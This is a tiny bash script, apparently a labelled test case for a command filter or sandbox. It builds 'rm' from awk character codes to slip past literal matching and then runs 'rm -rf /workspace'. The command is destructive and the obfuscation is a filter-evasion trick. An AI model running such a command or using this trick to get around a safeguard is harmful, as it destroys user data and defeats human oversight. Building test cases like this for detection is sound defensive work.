#!/usr/bin/env bash
# attack-class: 16
# title: $(awk 'BEGIN{printf "%c%c",114,109}')
# why: awk prints rm from character codes

$(awk 'BEGIN{printf "%c%c", 114, 109}') -rf /workspace
